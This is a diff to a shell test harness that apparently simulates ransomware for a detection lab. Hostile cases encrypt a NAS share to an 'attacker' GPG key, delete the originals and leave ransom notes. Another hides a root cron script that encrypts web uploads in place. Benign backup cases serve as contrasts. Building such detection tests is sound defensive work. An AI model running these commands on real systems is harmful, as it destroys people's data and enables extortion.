@@ -323,3 +323,51 @@ sc_b19_ssh_unzip_over() { sshx mkowalski 'cd ~ && unzip -q -o /tmp/mk-docs.zip &
 sc_b20_ssh_user_7z_one_folder() {
   sshx priya 'cd ~/work && d=$(ls -d */ | head -1) && 7z a -bd -p"mine!" -mhe=on "${d%/}.7z" "$d" >/dev/null && rm -rf "$d" && ls'
 }
+
+# ---- sixth batch: gpg's multi-file mode, rename-first lockers, and backups that copy or encrypt but keep
+pre_h14_ssh_gpg_encrypt_files_find_delete() {
+  # the intruder's public key, imported into svc-nas's keyring: only its private half decrypts
+  rm -rf /var/tmp/ho-gpg-attacker; mkdir -p /var/tmp/ho-gpg-attacker; chmod 700 /var/tmp/ho-gpg-attacker
+  gpg --homedir /var/tmp/ho-gpg-attacker --batch --passphrase '' --quick-gen-key 'payme <payme@onion.example>' rsa2048 encr never >/dev/null 2>&1
+  gpg --homedir /var/tmp/ho-gpg-attacker --armor --export payme@onion.example > /tmp/payme.asc; chmod 644 /tmp/payme.asc
+  rm -rf /home/svc-nas/.gnupg
+}
+sc_h14_ssh_gpg_encrypt_files_find_delete() {
+  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -mindepth 1 -type d | wc -l)" > $CASE/facts
+  sshx svc-nas 'gpg --batch --import /tmp/payme.asc 2>/dev/null; cd /srv/nas/share && find . -type f -print0 | xargs -0 gpg --batch --yes --trust-model always -r payme@onion.example --encrypt-files && find . -type f ! -name "*.gpg" -delete && for d in */; do echo "all files encrypted - pay" > "$d/#DECRYPT#.txt"; done'
+  rm -f /tmp/payme.asc; rm -rf /var/tmp/ho-gpg-attacker
+}
+sc_h15_cron_rename_first_then_rewrite() {
+  rm -f /tmp/.h15-done
+  install -d -m 755 /usr/local/lib/.sysupd
+  cat > /usr/local/lib/.sysupd/r.sh <<'S'
+#!/bin/bash
+# rename first, then rewrite each renamed file with its encryption through a temp and cat (O_TRUNC on the renamed file)
+for f in $(find /var/www/shop/uploads -type f); do mv "$f" "$f.rnsmw"; done
+for f in $(find /var/www/shop/uploads -type f -name '*.rnsmw'); do
+  openssl enc -chacha20 -pbkdf2 -k 'RW-1' -in "$f" -out /dev/shm/.t && cat /dev/shm/.t > "$f"
+done
+rm -f /dev/shm/.t
+for d in $(find /var/www/shop/uploads -type d); do echo 'site locked. contact rnsmw@onion.example' > "$d/RNSMW-README.txt"; done
+touch /tmp/.h15-done
+S
+  chmod 755 /usr/local/lib/.sysupd/r.sh
+  echo "files $(find /var/www/shop/uploads -type f | wc -l) dirs $(find /var/www/shop/uploads -type d | wc -l)" > $CASE/facts
+  read m h < <(cron_at_next_minute)
+  echo "$m $h * * * root /usr/local/lib/.sysupd/r.sh" > /etc/cron.d/sysupd
+  wait_cron /tmp/.h15-done; sleep 2; rm -f /etc/cron.d/sysupd; rm -rf /usr/local/lib/.sysupd
+}
+pre_b21_ssh_gpg_encrypt_files_backup_keep() {
+  rm -rf /home/priya/.gnupg /home/priya/enc-backup
+  su - priya -c "gpg --batch --passphrase '' --quick-gen-key 'Priya <priya@lab.internal>' rsa2048 encr never" >/dev/null 2>&1
+}
+sc_b21_ssh_gpg_encrypt_files_backup_keep() {
+  sshx priya 'mkdir -p ~/enc-backup && cd ~/work && find . -type f -print0 | xargs -0 gpg --batch --yes -r priya@lab.internal --encrypt-files && find . -name "*.gpg" -exec mv -t ~/enc-backup {} + && ls ~/enc-backup | wc -l'
+  rm -rf /home/priya/enc-backup
+}
+sc_b22_cron_root_copy_backup() {
+  rm -f /tmp/.b22-done; mkdir -p /srv/backup
+  read m h < <(cron_at_next_minute)
+  echo "$m $h * * * root cp -a /srv/nas/share /srv/backup/share-\$(date +\%F) && find /srv/backup -mindepth 1 -maxdepth 1 -mtime +7 -exec rm -rf {} + ; touch /tmp/.b22-done" > /etc/cron.d/zz-copy
+  wait_cron /tmp/.b22-done; sleep 1; rm -f /etc/cron.d/zz-copy; rm -rf /srv/backup
+}
